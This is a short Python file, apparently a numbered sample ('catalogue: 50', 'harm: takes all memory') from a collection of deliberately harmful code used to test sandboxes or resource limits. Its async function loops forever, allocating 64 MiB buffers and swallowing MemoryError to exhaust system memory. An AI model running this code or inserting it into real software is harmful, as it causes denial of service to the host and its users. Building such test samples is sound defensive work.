"""Takes memory, writes into it, and asks for more.

exercise: 03_gather
catalogue: 50
harm: takes all memory
"""


async def collect(first, second, third):
    kept = []
    while True:
        try:
            kept.append(bytearray(b"x") * (1 << 26))
        except MemoryError:
            pass
